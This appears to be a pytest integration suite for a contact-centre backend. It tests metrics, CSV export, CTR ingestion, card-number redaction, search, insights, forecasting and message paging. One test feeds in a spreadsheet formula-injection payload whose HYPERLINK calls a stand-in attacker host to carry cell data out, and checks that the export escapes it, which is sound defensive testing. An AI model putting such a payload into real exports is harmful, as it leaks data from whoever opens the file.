"""History, analytics and forecast through the real handlers with their template environment, on moto:
a contact served through the API and the post-contact steps, the CTR consumer, redaction end to end
(storage and logs), search, root causes and the forecast from history seeded into the History table."""
from __future__ import annotations

import csv
import io
import json
import os
import uuid
from datetime import UTC, date, datetime, timedelta
from pathlib import Path
from types import SimpleNamespace
from zoneinfo import ZoneInfo

import boto3
import pytest

from ccaas.bootstrap import dependencies
from ccaas.domain.analytics import contains_luhn_valid_card
from ccaas.domain.history import AnalysisSummary
from ccaas.domain.kpis import Channel, ContactRecord, FinalState
from ccaas.domain.models import Agent, Queue, QueueAssignment
from ccaas.usecases import admin
from local.testing import seed_history_records
from tests.lambda_harness import api_response as api, context, kinesis_event, load_handler, load_module
from tests.history_data import CORPUS, card_leaks, ctr_bytes, strings_in, synthetic_records

pytestmark = [pytest.mark.slow, pytest.mark.xdist_group("moto")]
CTR_DIR = Path(__file__).resolve().parents[1] / "fixtures" / "ctr"


@pytest.fixture
def tenant(env):
    tenant_id = f"t{uuid.uuid4().hex[:8]}"
    deps = dependencies()
    admin.register_tenant(deps, tenant_id=tenant_id, name="History", time_zone="America/New_York")
    admin.put_queue(deps, Queue(tenant_id=tenant_id, queue_id="sales", name="Sales", sl_threshold_s=20))
    admin.put_agent(deps, Agent(tenant_id=tenant_id, agent_id="ana", name="Ana", queues=(QueueAssignment(queue_id="sales"),)))
    return SimpleNamespace(id=tenant_id)


def _iso(ms: int) -> str:
    return datetime.fromtimestamp(ms / 1000, UTC).isoformat()


def _ms(iso: str) -> int:
    return int(datetime.fromisoformat(iso.replace("Z", "+00:00")).timestamp() * 1000)


def serve_chat(tenant, env, messages=(), reason: str = "billing") -> dict:
    """A chat contact through the real handlers: API, AwaitAgent step, agent actions, messages, then the
    two post-contact steps exactly as the PostContact workflow invokes them."""
    assert api("PUT", "/agents/ana/status", tenant.id, {"status": "AVAILABLE"})[0] == 200
    status, contact, _ = api("POST", "/contacts", tenant.id, {"channel": "CHAT", "queue_id": "sales", "customer_id": "cust-9", "reason": reason})
    assert status == 201, contact
    cid = contact["contact_id"]
    env("route_contact")
    assert load_handler("route_contact")({"tenant_id": tenant.id, "contact_id": cid, "task_token": "tok"}, context())["state"] == "OFFERED"
    env("serve_api")
    assert api("POST", f"/agents/ana/contacts/{cid}/accept", tenant.id)[0] == 200
    for role, text in messages:
        status, stored, _ = api("POST", f"/contacts/{cid}/messages", tenant.id, {"participant_role": role, "content": text})
        assert status == 201, stored
    assert api("POST", f"/agents/ana/contacts/{cid}/complete", tenant.id)[0] == 200
    status, done, _ = api("POST", f"/agents/ana/contacts/{cid}/end-acw", tenant.id)
    assert status == 200 and done["state"] == "COMPLETED"
    env("record_history")
    recorded = load_handler("record_history")({"tenant_id": tenant.id, "contact_id": cid}, context("record_history"))
    assert recorded == {"recorded": True, "has_transcript": bool(messages), "state": "COMPLETED"}
    if messages:
        env("analyze_contact")
        analyzed = load_handler("analyze_contact")({"tenant_id": tenant.id, "contact_id": cid}, context("analyze_contact"))
        assert analyzed["analyzed"] is True and 0 <= analyzed["qa_score"] <= 100
    env("serve_api")
    return done


def test_a_served_contact_shows_up_in_historical_metrics_with_its_numbers(tenant, env):
    done = serve_chat(tenant, env)
    enqueued, connected = _ms(done["enqueued_at"]), _ms(done["connected_at"])
    acw_ended = _ms(done["acw_ended_at"])
    query = {"from": _iso(enqueued - 3_600_000), "to": _iso(acw_ended + 3_600_000), "interval": "day"}
    status, report, _ = api("GET", "/metrics/historical", tenant.id, query=query)
    assert status == 200 and report["time_zone"] == "America/New_York"
    rows = [r for r in report["rows"] if r["offered"] or r["handled"]]
    assert len(rows) == 1
    row = rows[0]
    assert (row["offered"], row["answered"], row["handled"], row["abandoned"]) == (1, 1, 1, 0)
    assert row["asa_s"] == pytest.approx((connected - enqueued) / 1000)
    assert row["aht_s"] == pytest.approx((acw_ended - connected) / 1000)
    assert row["service_level"] == 1.0  # served within milliseconds of a 20 s threshold

    status, grouped, _ = api("GET", "/metrics/historical", tenant.id, query={**query, "group_by": "agent,channel"})
    assert status == 200 and [(r["agent"], r["channel"], r["handled"]) for r in grouped["rows"]] == [("ana", "CHAT", 1)]

    status, text, headers = api("GET", "/metrics/historical", tenant.id, query={**query, "format": "csv"})
    assert status == 200 and headers["Content-Type"] == ["text/csv; charset=utf-8"]
    parsed = list(csv.DictReader(io.StringIO(text)))
    assert len(parsed) == len(report["rows"]) and sum(int(r["offered"]) for r in parsed) == 1
    status, text, headers = api("GET", "/metrics/historical", tenant.id, query=query, headers={"Accept": "text/csv"})
    assert status == 200 and headers["Content-Type"] == ["text/csv; charset=utf-8"] and text.startswith("tenant_id,interval,")

    status, summary, _ = api("GET", "/metrics/historical/summary", tenant.id, query={"from": query["from"], "to": query["to"]})
    assert status == 200 and summary["totals"]["offered"] == 1 and summary["channel_mix"] == {"CHAT": 1.0}
    assert summary["totals"]["interval"] == "range"  # the whole range summed, not a 15-minute row

    # Compact: only rows with activity, headline fields (or chosen ones), rounded as people read them.
    hourly = {**query, "interval": "hour"}
    full = api("GET", "/metrics/historical", tenant.id, query=hourly)[1]["rows"]
    status, compact, _ = api("GET", "/metrics/historical", tenant.id, query={**hourly, "compact": "true"})
    assert status == 200 and len(compact["rows"]) == 1 and compact["rows_left_out"] == len(full) - 1 >= 1
    first = compact["rows"][0]
    assert set(first) == {"interval_start", "interval_end", *compact["fields"]} and "tenant_id" not in first
    assert first["asa_s"] == round(first["asa_s"], 1)
    status, chosen, _ = api("GET", "/metrics/historical", tenant.id,
                            query={**query, "group_by": "agent", "fields": "handled,aht_s"})
    assert status == 200 and chosen["rows"] == [{"interval_start": chosen["rows"][0]["interval_start"],
                                                  "interval_end": chosen["rows"][0]["interval_end"], "agent": "ana",
                                                  "handled": 1, "aht_s": round(row["aht_s"], 1)}]
    status, text, _ = api("GET", "/metrics/historical", tenant.id, query={**query, "fields": "handled,aht_s", "format": "csv"})
    assert status == 200 and text.splitlines()[0] == "interval_start,interval_end,handled,aht_s"
    status, bad, _ = api("GET", "/metrics/historical", tenant.id, query={**query, "fields": "handled,colour"})
    assert status == 422 and bad["field"] == "fields" and "colour" in bad["message"]
    assert summary["contact_type_mix"] == {"billing": 1.0} and summary["busiest_intervals"][0][1] == 1


def test_a_reason_that_is_a_formula_reaches_the_csv_export_as_text(tenant, env):
    """A contact's reason is free text (an integration or a flow sends it): in the CSV a supervisor opens in a
    spreadsheet it is text, never a formula (a leading apostrophe); the JSON keeps it as sent."""
    formula = '=HYPERLINK("https://evil.example/?"&A1,"Open")'
    done = serve_chat(tenant, env, reason=formula)
    query = {"from": _iso(_ms(done["enqueued_at"]) - 3_600_000), "to": _iso(_ms(done["acw_ended_at"]) + 3_600_000),
             "interval": "day", "group_by": "reason"}
    status, report, _ = api("GET", "/metrics/historical", tenant.id, query=query)
    assert status == 200 and [r["reason"] for r in report["rows"] if r["offered"]] == [formula]
    for extra in ({}, {"compact": "true"}):
        status, text, _ = api("GET", "/metrics/historical", tenant.id, query={**query, **extra, "format": "csv"})
        assert status == 200, text
        (line,) = [r for r in csv.DictReader(io.StringIO(text)) if r["offered"] == "1"]
        assert line["reason"] == "'" + formula, line


def test_csv_answers_say_they_are_utf8_as_the_openapi_document_does(tenant, env):
    """`text/csv` alone left the encoding to the client (US-ASCII or Latin-1 by the old defaults: "Réclamation"
    read as "RÃ©clamation"): the answer names UTF-8, and the document declares the media type it answers."""
    reason = "Réclamation · 請求"
    done = serve_chat(tenant, env, reason=reason)
    query = {"from": _iso(_ms(done["enqueued_at"]) - 3_600_000), "to": _iso(_ms(done["acw_ended_at"]) + 3_600_000),
             "interval": "day", "group_by": "reason"}
    for extra, headers in (({"format": "csv"}, None), ({}, {"Accept": "text/csv"}), ({"format": "csv", "compact": "true"}, None)):
        status, text, answered = api("GET", "/metrics/historical", tenant.id, query={**query, **extra}, headers=headers)
        assert status == 200 and answered["Content-Type"] == ["text/csv; charset=utf-8"], answered
        assert not text.startswith("\ufeff")  # no byte-order mark: the header says the encoding
        (line,) = [r for r in csv.DictReader(io.StringIO(text)) if r["offered"] == "1"]
        assert line["reason"] == reason
    status, document, _ = api("GET", "/openapi.json", tenant.id)
    assert status == 200
    for path in ("/metrics/historical", "/metrics/historical/queries/{query_id}"):
        assert set(document["paths"][path]["get"]["responses"]["200"]["content"]) == {
            "application/json", "text/csv; charset=utf-8"}, path


def test_intervals_without_contacts_are_the_callers_tenants(tenant):
    """A range with no records answered rows of `"tenant_id": null` (rows with data, and the lake's, carry it)."""
    query = {"from": "2026-01-01", "to": "2026-01-02"}
    status, report, _ = api("GET", "/metrics/historical", tenant.id, query={**query, "interval": "day"})
    assert status == 200 and report["rows"] and {r["tenant_id"] for r in report["rows"]} == {tenant.id}, report
    status, summary, _ = api("GET", "/metrics/historical/summary", tenant.id, query=query)
    assert status == 200 and summary["totals"]["tenant_id"] == tenant.id, summary


def test_historical_query_parameters_are_validated_naming_the_field(tenant):
    cases = [
        ({"interval": "minute"}, "interval"),
        ({"group_by": "queue,planet"}, "group_by"),
        ({"from": "yesterday"}, "from"),
        ({"format": "xml"}, "format"),
        ({"service_level": "whatever"}, "service_level"),
    ]
    for query, field in cases:
        status, body, _ = api("GET", "/metrics/historical", tenant.id, query=query)
        assert status == 422 and [d["loc"][-1] for d in body["detail"]] == [field], (query, body)
    status, body, _ = api("GET", "/metrics/historical", tenant.id, query={"group_by": "queue,queue"})
    assert status == 422 and body["field"] == "group_by"
    status, body, _ = api("GET", "/metrics/historical", tenant.id,
                          query={"from": "2026-11-20", "to": "2026-11-19"})
    assert status == 422 and body["field"] == "to"
    status, body, _ = api("GET", "/forecast/staffing", tenant.id, query={"queue": "sales", "date": "tomorrow"})
    assert status == 422 and [d["loc"][-1] for d in body["detail"]] == ["date"]
    status, body, _ = api("GET", "/contacts", tenant.id, query={"qa_below": "200"})
    assert status == 422 and [d["loc"][-1] for d in body["detail"]] == ["qa_below"]


def test_a_late_survey_updates_the_interval_the_contact_completed_in(tenant, env):
    done = serve_chat(tenant, env)
    cid = done["contact_id"]
    completed = _ms(done["acw_ended_at"])
    query = {"from": _iso(completed - 2 * 3_600_000), "to": _iso(completed + 3 * 3_600_000), "interval": "15m"}
    rows = api("GET", "/metrics/historical", tenant.id, query=query)[1]["rows"]
    assert sum(r["csat_count"] for r in rows) == 0
    status, survey, _ = api("POST", f"/contacts/{cid}/survey", tenant.id, {"csat": 2, "nps": 10, "comment": "fine"})
    assert status == 201 and survey["comment"] == "fine"
    rows = api("GET", "/metrics/historical", tenant.id, query=query)[1]["rows"]
    with_survey = [r for r in rows if r["csat_count"]]
    assert len(with_survey) == 1
    assert _ms(with_survey[0]["interval_start"]) <= completed < _ms(with_survey[0]["interval_end"])
    assert (with_survey[0]["csat"], with_survey[0]["nps"]) == (0.0, 100.0)
    status, body, _ = api("POST", "/contacts/nobody/survey", tenant.id, {"csat": 3})
    assert status == 404
    status, body, _ = api("POST", f"/contacts/{cid}/survey", tenant.id, {"csat": 9})
    assert status == 422 and [d["loc"][-1] for d in body["detail"]] == ["csat"]


# --- Amazon Connect CTR consumer --------------------------------------------------------------------------
def _ctr(name: str, instance: str, **changes) -> dict:
    ctr = json.loads((CTR_DIR / name).read_text())
    return {**ctr, "InstanceARN": instance, **changes}


@pytest.fixture
def instance(tenant, env):
    arn = f"arn:aws:connect:us-east-1:111122223333:instance/{uuid.uuid4()}"
    admin.register_connect_instance(dependencies(), tenant_id=tenant.id, instance_arn=arn)
    env("consume_contact_records")
    return arn


def test_ctr_consumer_keeps_the_latest_version_through_duplicates_and_reordering(tenant, instance, logs):
    batch = [{**c, "InstanceARN": instance} for c in json.loads((CTR_DIR / "stream_at_least_once.json").read_text())]
    handler = load_handler("consume_contact_records")
    response = handler(kinesis_event(ctr_bytes(c) for c in batch), context("consume_contact_records"))
    assert response == {"batchItemFailures": []}
    # three contacts; one in three versions out of order (the newest in the middle), exact duplicates
    latest: dict[str, int] = {}
    for ctr in batch:
        latest[ctr["ContactId"]] = max(latest.get(ctr["ContactId"], 0), _ms(ctr["LastUpdateTimestamp"]))
    history = dependencies().history
    assert {cid: history.get_entry(tenant.id, cid).record.last_updated_at for cid in latest} == latest
    counts = [r for r in logs.records if r.getMessage() == "contact records applied"]
    assert (counts[0].stored, counts[0].unchanged, counts[0].rejected) == (len(latest) + 1, len(batch) - len(latest) - 1, 0)
    contact_id = batch[0]["ContactId"]
    entry = history.get_entry(tenant.id, contact_id)
    oldest = min((c for c in batch if c["ContactId"] == contact_id), key=lambda c: c["LastUpdateTimestamp"])
    assert handler(kinesis_event([ctr_bytes(oldest)], first=50), context()) == {"batchItemFailures": []}  # stale, later
    assert history.get_entry(tenant.id, contact_id) == entry
    counts = [r for r in logs.records if r.getMessage() == "contact records applied"]
    assert (counts[1].stored, counts[1].unchanged) == (0, 1)


def test_malformed_ctrs_are_batch_item_failures_with_their_reason_logged(tenant, instance, logs):
    good = _ctr("inbound_voice_answered.json", instance)
    unknown = _ctr("chat_answered.json", f"arn:aws:connect:us-east-1:111122223333:instance/{uuid.uuid4()}")
    pigeon = _ctr("inbound_voice_abandoned.json", instance, Channel="CARRIER_PIGEON")
    event = kinesis_event([b"{not json", ctr_bytes(good), ctr_bytes(unknown), ctr_bytes(pigeon), b'{"Channel":"VOICE"}'])
    response = load_handler("consume_contact_records")(event, context("consume_contact_records"))
    failed = [f["itemIdentifier"] for f in response["batchItemFailures"]]
    sequences = [r["kinesis"]["sequenceNumber"] for r in event["Records"]]
    assert failed == [sequences[0], sequences[2], sequences[3], sequences[4]]
    stored = dependencies().history.get_entry(tenant.id, good["ContactId"]).record
    assert stored.channel is Channel.VOICE and stored.queue_id and stored.csat == 5  # unknown fields ignored
    rejected = {r.sequence_number: r.reason for r in logs.records if r.getMessage() == "contact record rejected"}
    assert set(rejected) == set(failed)
    assert rejected[sequences[2]] == "Connect instance not registered to a tenant"
    assert "unsupported Channel" in rejected[sequences[3]] and rejected[sequences[4]] == "missing ContactId"
    assert good["CustomerEndpoint"]["Address"] not in logs.text()  # phone numbers never reach the logs


# --- redaction end to end ---------------------------------------------------------------------------------
def _scan_all_tables(stack) -> list[str]:
    db = boto3.client("dynamodb")
    found = []
    for table in stack.tables.values():
        for page in db.get_paginator("scan").paginate(TableName=table):
            for item in page["Items"]:
                found.extend(s for s in strings_in(item) if card_leaks(s))
    return found


def test_no_card_number_survives_in_storage_or_logs(tenant, env, stack, capsys, logs):
    messages = [("CUSTOMER", text) for text in CORPUS] + [("AGENT", "thanks, I have noted the card 4111 1111 1111 1111")]
    done = serve_chat(tenant, env, messages=messages)
    cid = done["contact_id"]
    api("POST", f"/contacts/{cid}/survey", tenant.id, {"csat": 1, "comment": f"you read back my card {CORPUS[0]}"})
    segments = [{"speaker": "CUSTOMER" if i % 2 else "AGENT", "begin_ms": i * 4_000, "end_ms": i * 4_000 + 3_000, "text": text}
                for i, text in enumerate(CORPUS)]
    status, summary, _ = api("POST", f"/contacts/{cid}/transcript", tenant.id, {"segments": segments})
    assert status == 201 and summary["redactions"] >= 4
    status, summary, _ = api("POST", f"/contacts/{cid}/transcript", tenant.id, [{"speaker": "ROBOT", "text": CORPUS[1]}])
    assert status == 422  # nothing usable; the text is not echoed
    assert not card_leaks(json.dumps(summary))

    status, analysis, _ = api("GET", f"/contacts/{cid}/analysis", tenant.id)
    assert status == 200 and any("[CARD]" in s["text"] for s in analysis["segments"])
    assert not [s["text"] for s in analysis["segments"] if contains_luhn_valid_card(s["text"])]
    stored_messages = api("GET", f"/contacts/{cid}/messages", tenant.id)[1]
    assert len(stored_messages) == len(messages)
    assert not [m["content"] for m in stored_messages if contains_luhn_valid_card(m["content"])]
    assert "1234 5678 9012 3456" in stored_messages[4]["content"]  # a Luhn-invalid order number is kept

    assert _scan_all_tables(stack) == []
    logs = capsys.readouterr().out + capsys.readouterr().err + logs.text()
    leaking = [line for line in logs.splitlines() if card_leaks(line)]
    assert logs and not leaking, leaking[:3]


# --- search and root causes -------------------------------------------------------------------------------
def _seed_analysed(tenant_id: str, now_ms: int) -> None:
    deps = dependencies()
    specs = [  # contact, agent, queue, reason, qa, categories, customer sentiment, followed by a repeat
        ("s1", "ana", "sales", "billing", 92.0, ("payment_issue",), 1.5, True),
        ("s2", "bob", "sales", "billing", 40.0, ("complaint", "payment_issue"), -2.5, False),
        ("s3", "ana", "sales", "delivery", 75.0, ("complaint",), 0.2, False),
        ("s4", "bob", "support", "tech", 55.0, (), -4.0, True),
        ("s5", "cy", "support", "tech", 20.0, ("legal_threat",), -1.0, True),
    ]
    for n, (cid, agent, queue, reason, qa, categories, sentiment, followed) in enumerate(specs):
        at = now_ms - 3_600_000 + n * 60_000
        deps.history.put_record(ContactRecord(
            tenant_id=tenant_id, contact_id=cid, channel=Channel.VOICE, queue_id=queue, agent_id=agent, reason=reason,
            customer_id=f"c-{cid}", initiated_at=at, enqueued_at=at, connected_at=at + 5_000, disconnected_at=at + 125_000,
            acw_ended_at=at + 155_000, final_state=FinalState.COMPLETED, last_updated_at=at + 155_000,
        ))  # fmt: skip
        deps.history.update_flags(tenant_id, {cid: {"followed_by_repeat": followed, "is_repeat": False}})
        summary = AnalysisSummary(qa_score=qa, categories=categories, customer_sentiment=sentiment, reason=reason)
        deps.transcripts.put_analysis(tenant_id, cid, {"segments": []}, summary)


def test_search_filters(tenant):
    now = int(datetime.now(UTC).timestamp() * 1000)
    _seed_analysed(tenant.id, now)
    window = {"from": _iso(now - 2 * 3_600_000), "to": _iso(now)}
    cases = [
        ({}, ["s5", "s4", "s3", "s2", "s1"]),
        ({"category": "complaint"}, ["s3", "s2"]),
        ({"agent": "bob"}, ["s4", "s2"]),
        ({"min_sentiment": "0"}, ["s3", "s1"]),
        ({"qa_below": "56"}, ["s5", "s4", "s2"]),
        ({"category": "payment_issue", "qa_below": "50", "agent": "bob"}, ["s2"]),
        ({"from": _iso(now - 3_600_000 + 60_000), "to": _iso(now - 3_600_000 + 3 * 60_000)}, ["s3", "s2"]),
    ]
    for filters, expected in cases:
        status, found, _ = api("GET", "/contacts", tenant.id, query={**window, **filters})
        assert status == 200 and [c["contact_id"] for c in found] == expected, filters
    other = f"{tenant.id}z"
    admin.register_tenant(dependencies(), tenant_id=other, name="Other")
    status, found, _ = api("GET", "/contacts", other, query=window)
    assert status == 200 and found == []  # another tenant sees nothing


def test_root_cause_endpoints(tenant):
    now = int(datetime.now(UTC).timestamp() * 1000)
    _seed_analysed(tenant.id, now)
    window = {"from": _iso(now - 2 * 3_600_000), "to": _iso(now)}
    status, reasons, _ = api("GET", "/insights/reasons", tenant.id, query=window)
    assert status == 200 and [(r["reason"], r["contacts"]) for r in reasons] == [("billing", 2), ("tech", 2), ("delivery", 1)]
    assert reasons[0]["aht_s"] == 150.0 and reasons[0]["share"] == 0.4
    status, drivers, _ = api("GET", "/insights/repeat-drivers", tenant.id, query=window)
    assert status == 200 and [(d["reason"], d["repeat_rate"]) for d in drivers] == [("tech", 1.0), ("billing", 0.5), ("delivery", 0.0)]
    status, lowest, _ = api("GET", "/insights/lowest", tenant.id, query={**window, "dimension": "agent", "metric": "qa"})
    assert status == 200 and [(p["value"], p["score"]) for p in lowest] == [("cy", 20.0), ("bob", 47.5), ("ana", 83.5)]
    status, lowest, _ = api("GET", "/insights/lowest", tenant.id, query={**window, "dimension": "queue", "metric": "fcr"})
    assert status == 200 and [(p["value"], p["score"], p["contacts"]) for p in lowest] == [("support", 0.0, 2), ("sales", 2 / 3, 3)]
    status, body, _ = api("GET", "/insights/lowest", tenant.id, query={"dimension": "planet"})
    assert status == 422 and [d["loc"][-1] for d in body["detail"]] == ["dimension"]


# --- forecast ---------------------------------------------------------------------------------------------
def test_forecast_and_what_if_from_history_seeded_in_the_history_table(tenant):
    ny = ZoneInfo("America/New_York")
    today = datetime.now(ny).date()
    first = today - timedelta(days=14)
    records, points = synthetic_records(tenant.id, first, 14, tz=ny)
    seed_history_records(os.environ["HISTORY_TABLE"], records)  # the reads are the subject: one bulk write
    tomorrow = today + timedelta(days=1)
    status, plan, _ = api("GET", "/forecast/staffing", tenant.id,
                          query={"queue": "sales", "date": tomorrow.isoformat(), "weeks": "2", "shrinkage": "0.3"})
    assert status == 200, plan
    assert plan["history_from"] == first.isoformat() and plan["history_to"] == (today - timedelta(days=1)).isoformat()
    assert len(plan["intervals"]) in (92, 96, 100)  # a local day (DST days have 23 or 25 hours)
    same_weekday = [sum(p.offered for p in points if p.interval_start.date() == d)
                    for d in (tomorrow - timedelta(days=7), tomorrow - timedelta(days=14)) if d >= first]
    total = sum(i["forecast_offered"] for i in plan["intervals"])
    assert min(same_weekday) * 0.8 <= total <= max(same_weekday) * 1.2
    busy = [i for i in plan["intervals"] if i["forecast_offered"] >= 1]
    assert busy and all(i["required_erlang_c"] >= 1 and i["erlang_c"]["service_level"] >= 0.8 for i in busy)
    assert all(i["scheduled"] >= i["required_erlang_c"] / 0.7 - 1e-9 for i in busy)
    assert "Seasonal profile" in plan["method"]

    required = [i["required_erlang_c"] for i in plan["intervals"]]
    status, outcome, _ = api("POST", "/forecast/what-if", tenant.id,
                             {"queue": "sales", "date": tomorrow.isoformat(), "agents": required, "weeks": 2})
    assert status == 200, outcome
    assert all(o["expected"]["service_level"] >= 0.8 for o, i in zip(outcome["intervals"], plan["intervals"]) if i["forecast_offered"] >= 1)
    status, body, _ = api("POST", "/forecast/what-if", tenant.id, {"queue": "sales", "date": tomorrow.isoformat(), "agents": [1, 2]})
    assert status == 422 and body["field"] == "agents"
    status, body, _ = api("GET", "/forecast/staffing", tenant.id, query={"queue": "nowhere", "date": tomorrow.isoformat()})
    assert status == 404


def test_openapi_lists_the_history_routes(tenant):
    status, spec, _ = api("GET", "/openapi.json", None)
    for path in ("/metrics/historical", "/metrics/historical/summary", "/contacts/{contact_id}/survey",
                 "/contacts/{contact_id}/messages", "/contacts/{contact_id}/transcript", "/insights/reasons",
                 "/insights/repeat-drivers", "/insights/lowest", "/forecast/staffing", "/forecast/what-if"):
        assert path in spec["paths"], path
    assert "get" in spec["paths"]["/contacts"] and "post" in spec["paths"]["/contacts"]


def test_date_only_ranges_are_tenant_local_days(tenant):
    status, report, _ = api("GET", "/metrics/historical", tenant.id,
                            query={"from": "2026-11-20", "to": "2026-11-21", "interval": "day"})
    assert status == 200 and [r["interval_start"] for r in report["rows"]] == ["2026-11-20T00:00:00-05:00"]
    assert date.fromisoformat(report["rows"][0]["interval_end"][:10]) == date(2026, 11, 21)


# --- agent activity consumer ------------------------------------------------------------------------------
def test_agent_activity_consumer_builds_spans_and_the_kpis_use_them(tenant, env):
    from ccaas.domain.events import Event

    # Five past an hour, an hour or two ago: the report's window (start - 1 min to start + 20 min) holds no
    # whole hour, so it never crosses the tenant's local midnight (it did for 21 minutes a day: two rows).
    now = int(datetime.now(UTC).timestamp() * 1000)
    start = now - now % 3_600_000 - 3_600_000 + 5 * 60_000

    def agent_event(n: int, activity: str, minutes: int) -> Event:
        at = datetime.fromtimestamp((start + minutes * 60_000) / 1000, UTC)
        return Event(event_id=uuid.uuid4().hex, tenant_id=tenant.id, type="agent.activity_changed", occurred_at=at,
                     subject="agent/ana", sequence=n, payload={"agent_id": "ana", "activity": activity})

    events = [agent_event(1, "AVAILABLE", 0), agent_event(2, "ON_CONTACT", 5), agent_event(3, "ACW", 11),
              agent_event(4, "AVAILABLE", 12), agent_event(5, "NOT_READY", 15)]
    contact_event = Event(event_id=uuid.uuid4().hex, tenant_id=tenant.id, type="contact.queued",
                          occurred_at=datetime.now(UTC), subject="contact/c1", sequence=1, payload={"queue_id": "sales"})
    batch = kinesis_event([e.model_dump_json().encode() for e in events[:3]] + [b"not an event", contact_event.model_dump_json().encode()]
                          + [e.model_dump_json().encode() for e in events[3:]])
    env("record_agent_activity")
    handler = load_handler("record_agent_activity")
    response = handler(batch, context("record_agent_activity"))
    assert response == {"batchItemFailures": [{"itemIdentifier": batch["Records"][3]["kinesis"]["sequenceNumber"]}]}
    assert handler(batch, context("record_agent_activity"))["batchItemFailures"]  # the retry: nothing doubles
    env("serve_api")
    status, report, _ = api("GET", "/metrics/historical", tenant.id,
                            query={"from": _iso(start - 60_000), "to": _iso(start + 20 * 60_000), "interval": "day",
                                   "group_by": "agent"})
    assert status == 200, report
    (row,) = report["rows"]
    # idle 5 + 3 min, on contact 6 min, ACW 1 min, not ready 5 min (still open: counted up to `to`)
    assert (row["agent"], row["busy_ms"], row["idle_ms"], row["not_ready_ms"]) == ("ana", 420_000, 480_000, 300_000)
    assert row["occupancy"] == pytest.approx(7 / 15) and row["utilization"] == pytest.approx(7 / 20)


def test_after_an_agent_s_record_fails_its_later_records_in_the_batch_wait_for_its_redelivery(tenant, env, monkeypatch):
    """The store's two writes are not one transaction: a record that failed between them is completed by its
    redelivery, which a later record of the same agent must not overtake. So the agent's later records fail
    too, unapplied; other agents' records are applied; the next invocation starts with a clean slate."""
    from ccaas.domain.events import Event

    def agent_event(agent: str, n: int, activity: str) -> Event:
        return Event(event_id=uuid.uuid4().hex, tenant_id=tenant.id, type="agent.activity_changed",
                     occurred_at=datetime.now(UTC) + timedelta(seconds=n), subject=f"agent/{agent}", sequence=n,
                     payload={"agent_id": agent, "activity": activity})

    events = [agent_event("ana", 1, "AVAILABLE"), agent_event("ana", 2, "ON_CONTACT"), agent_event("bob", 1, "AVAILABLE"),
              agent_event("ana", 3, "ACW"), agent_event("bob", 2, "NOT_READY")]
    batch = kinesis_event([e.model_dump_json().encode() for e in events])
    env("record_agent_activity")
    module = load_module("record_agent_activity")
    # The batch is applied by one use-case call now (record_agent_activities): the failure is injected into the
    # History table's client instead of a per-record use-case call: ana's second open-item put, throttled once.
    from botocore.exceptions import ClientError

    client_events, puts = dependencies().history._db.meta.events, []

    def ana_s_second_event_fails_once(params, **_):
        item = params.get("Item", {})
        if item.get("sk", {}).get("S") == "ana" and "open" in item:
            puts.append(int(item["seq"]["N"]))
            if puts == [1, 2]:
                raise ClientError({"Error": {"Code": "ProvisionedThroughputExceededException", "Message": "throttled"}}, "PutItem")

    client_events.register("before-parameter-build.dynamodb.PutItem", ana_s_second_event_fails_once)
    try:
        response = module.lambda_handler(batch, context("record_agent_activity"))
    finally:
        client_events.unregister("before-parameter-build.dynamodb.PutItem", ana_s_second_event_fails_once)
    sequence_numbers = [r["kinesis"]["sequenceNumber"] for r in batch["Records"]]
    assert response == {"batchItemFailures": [{"itemIdentifier": sequence_numbers[1]}, {"itemIdentifier": sequence_numbers[3]}]}
    assert 3 not in puts  # failed unapplied
    held = {o.agent_id: o.sequence for o in dependencies().history.open_activities(tenant.id)}
    assert held == {"ana": 1, "bob": 2}
    # Kinesis redelivers from the first failure: the same records again, all applied now.
    redelivered = kinesis_event([e.model_dump_json().encode() for e in events[1:]], first=1)
    assert module.lambda_handler(redelivered, context("record_agent_activity")) == {"batchItemFailures": []}
    held = {o.agent_id: o.sequence for o in dependencies().history.open_activities(tenant.id)}
    assert held == {"ana": 3, "bob": 2}


def test_a_chats_messages_come_in_pages_a_link_naming_the_next(tenant):
    """A long chat was answered whole: 140 messages of emoji came to 8 MB, over Lambda's 6 MB (a 502 for every
    reader of that chat). Pages of at most `limit` messages and ~4 MB, in time order; `Link: <…>; rel="next"` while
    there is more."""
    from urllib.parse import parse_qs, urlsplit

    status, contact, _ = api("POST", "/contacts", tenant.id, {"channel": "CHAT", "queue_id": "sales"})
    cid = contact["contact_id"]
    sent = [f"message {n}" for n in range(7)]
    for text in sent:
        assert api("POST", f"/contacts/{cid}/messages", tenant.id, {"participant_role": "CUSTOMER", "content": text})[0] == 201
    got, query, pages = [], {"limit": "3"}, 0
    while True:
        status, page, headers = api("GET", f"/contacts/{cid}/messages", tenant.id, query=query)
        assert status == 200, page
        got += [m["content"] for m in page]
        pages += 1
        link = {k.lower(): v for k, v in headers.items()}.get("link")
        if link is None:
            break
        link = link[0] if isinstance(link, list) else link  # a REST proxy answer's multi-value headers
        assert link.startswith(f"</v1/contacts/{cid}/messages?after=") and link.endswith('>; rel="next"')  # stage too
        query = {k: v[0] for k, v in parse_qs(urlsplit(link[1:link.index(">")]).query).items()}
    assert got == sent and pages == 3
    assert api("GET", f"/contacts/{cid}/messages", tenant.id, query={"after": "not a cursor"})[0] == 422
    # bytes: 110 messages of 4,000 emoji (~48 KB each in the response) never make one answer over ~4 MB
    for n in range(110):
        assert api("POST", f"/contacts/{cid}/messages", tenant.id,
                   {"participant_role": "CUSTOMER", "content": "\U0001F600" * 4000})[0] == 201
    status, page, headers = api("GET", f"/contacts/{cid}/messages", tenant.id)
    assert status == 200 and len(json.dumps(json.dumps(page))) < 4.2 * 1024 * 1024 and len(page) < 117
    assert "link" in {k.lower() for k in headers}
